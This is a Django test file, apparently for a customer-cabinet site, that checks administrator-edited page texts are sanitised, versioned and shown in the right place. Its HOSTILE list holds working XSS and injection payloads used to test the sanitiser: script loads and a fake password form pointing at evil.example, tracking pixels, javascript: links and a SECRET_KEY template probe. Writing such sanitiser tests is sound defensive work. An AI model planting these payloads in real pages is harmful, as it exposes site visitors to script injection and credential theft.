"""Three texts of the administrator: what is hostile in them is dropped on the way in."""

import pytest
from django.test import Client

from accounts.models import User
from audit.models import Record
from cabinet.pages import services
from cabinet.pages.models import PageVersion, Slot
from cabinet.pages.queries import current
from tests.forms import fields, opened
from tests.moment import NOW
from tests.world import words

WHERE = {Slot.SIGN_IN: "/accounts/login/", Slot.HOME: "/information/", Slot.HELP: "/help/"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/track.gif" width=1 height=1>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" target="_top">x</a>',
    '<form action="https://evil.example"><input name=password><button>Войти</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p id="main" class="notice" data-live="/x">x</p>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<object data="x.swf"></object><embed src="x.swf">',
    '<video src="x" onerror="alert(1)"></video>',
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<p>{% load static %}{{ settings.SECRET_KEY }}</p>",
]
FORBIDDEN = [
    *("script", "onerror", "onclick", "onload", "ontoggle", "evil.example", "style=", "id=", "data-live"),
    *("<form", "<input", "<iframe", "<meta", "<style", "<img", "<svg", "<object", "<base", "<link"),
]


def publish(client: Client, slot: str, text: str) -> int:
    form = opened(client, "/pages/", "home-text")
    return client.post(f"/pages/{slot}/", {**form, f"{slot}-text": text}).status_code


@pytest.mark.parametrize("slot", Slot)
def test_a_text_is_on_the_site_at_once(
    administrator_client: Client, applicant_client: Client, browser: Client, slot: Slot
) -> None:
    assert publish(administrator_client, slot, "<p>Мы переехали на <b>Заречную</b></p>") == 302

    reader = browser if slot == Slot.SIGN_IN else applicant_client
    assert "<p>Мы переехали на <b>Заречную</b></p>" in words(reader.get(WHERE[slot]))
    others = [page for other, page in WHERE.items() if other not in {slot, Slot.SIGN_IN}]
    assert all("переехали" not in words(applicant_client.get(page)) for page in others)


@pytest.mark.parametrize("slot", Slot)
def test_a_company_begins_with_texts_that_name_nobody_else(
    applicant_client: Client, browser: Client, slot: Slot
) -> None:
    reader = browser if slot == Slot.SIGN_IN else applicant_client
    seen = words(reader.get(WHERE[slot]))

    assert current(slot) is not None
    assert "Теплосеть" not in seen


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_hostile_is_dropped_when_it_is_written(administrator_client: Client, text: str) -> None:
    assert publish(administrator_client, "home", f"<p>Начало</p>{text}<p>конец</p>") == 302

    newest = current(Slot.HOME)
    assert newest is not None
    assert newest.html.startswith("<p>Начало</p>")
    assert [word for word in FORBIDDEN if word in newest.html.lower().replace("{% load static %}", "")] == []


def test_template_tags_are_only_letters(administrator_client: Client, applicant_client: Client) -> None:
    publish(administrator_client, "home", "<p>{{ user.email }} {% now 'Y' %}</p>")

    assert "{{ user.email }} {% now 'Y' %}" in words(applicant_client.get("/information/"))


def test_links_open_nothing_of_ours(administrator_client: Client) -> None:
    publish(administrator_client, "help", '<p><a href="https://example.ru/prices">Тарифы</a></p>')

    newest = current(Slot.HELP)
    assert newest is not None
    assert newest.html == '<p><a href="https://example.ru/prices" rel="noopener noreferrer nofollow">Тарифы</a></p>'


def test_plain_text_becomes_paragraphs(administrator_client: Client) -> None:
    publish(administrator_client, "help", "Первый абзац.\n\nВторой: 2 < 3 & 4.")

    newest = current(Slot.HELP)
    assert newest is not None
    assert newest.html == "<p>Первый абзац.</p><p>Второй: 2 &lt; 3 &amp; 4.</p>"


def test_an_empty_text_leaves_nothing_on_the_page(administrator_client: Client, applicant_client: Client) -> None:
    publish(administrator_client, "home", "<p>Объявление</p>")
    publish(administrator_client, "home", "<p> </p>")

    assert "Объявление" not in words(applicant_client.get("/information/"))


def test_a_text_too_long_is_told_and_kept(administrator_client: Client) -> None:
    answer = administrator_client.post("/pages/home/", {"home-text": "я" * 20_001})

    assert answer.status_code == 422
    assert "20" in words(answer)
    assert "я" * 20_001 in words(answer)
    assert PageVersion.objects.filter(slot="home").count() == 1


def test_an_old_wording_is_brought_back_as_a_new_version(administrator_client: Client) -> None:
    first = current(Slot.HOME)
    assert first is not None
    publish(administrator_client, "home", "<p>Новый</p>")
    administrator_client.post(f"/pages/versions/{first.pk}/", opened(administrator_client, "/pages/", "home-text"))

    newest = current(Slot.HOME)
    assert newest is not None
    assert newest.html == first.html
    assert newest.pk > first.pk
    assert newest.by_name == "Иванова М. С."
    assert PageVersion.objects.filter(slot="home").count() == 3


def test_the_same_text_twice_is_one_version(administrator: User) -> None:
    for _ in range(2):
        services.publish(Slot.HOME, text="<p>Новый</p>", by=administrator, now=NOW)

    assert PageVersion.objects.filter(slot="home").count() == 2
    assert Record.objects.filter(event="page.published").count() == 1


def test_a_text_that_does_not_exist_is_not_found(administrator_client: Client) -> None:
    assert publish(administrator_client, "nonsense", "x") == 404
    assert administrator_client.post("/pages/versions/999999/").status_code == 404


def test_saving_one_text_keeps_what_is_typed_in_the_others(administrator_client: Client) -> None:
    form = {**opened(administrator_client, "/pages/", "home-text"), "home-text": "<p>Новости</p>"}
    answer = administrator_client.post("/pages/home/", {**form, "help-text": "<p>Ещё не готово</p>"})

    assert answer.status_code == 200
    kept = fields(answer, "help-text")
    assert kept["help-text"] == "<p>Ещё не готово</p>"
    assert words(answer).count("Этот текст ещё не сохранён") == 1
    newest = current(Slot.HELP)
    assert newest is not None
    assert newest.html != "<p>Ещё не готово</p>"
    assert administrator_client.post("/pages/help/", kept).status_code == 302
    saved = current(Slot.HELP)
    assert saved is not None
    assert saved.html == "<p>Ещё не готово</p>"


def test_a_refused_text_keeps_the_others_too(administrator_client: Client) -> None:
    form = {**opened(administrator_client, "/pages/", "home-text"), "home-text": "я" * 20_001}
    answer = administrator_client.post("/pages/home/", {**form, "sign_in-text": "<p>Ещё не готово</p>"})

    assert answer.status_code == 422
    assert fields(answer, "help-text")["sign_in-text"] == "<p>Ещё не готово</p>"


def test_bringing_back_an_old_wording_keeps_what_is_typed(administrator_client: Client) -> None:
    first = current(Slot.HOME)
    assert first is not None
    publish(administrator_client, "home", "<p>Новый</p>")
    form = {**opened(administrator_client, "/pages/", "home-text"), "home-text": "<p>Мысль</p>"}
    answer = administrator_client.post(f"/pages/versions/{first.pk}/", {**form, "help-text": "<p>Ещё мысль</p>"})

    kept = fields(answer, "home-text")
    assert (kept["home-text"], kept["help-text"]) == ("<p>Мысль</p>", "<p>Ещё мысль</p>")
    newest = current(Slot.HOME)
    assert newest is not None
    assert newest.html == first.html
    assert administrator_client.post("/pages/home/", kept).status_code == 200  # the help is not saved yet
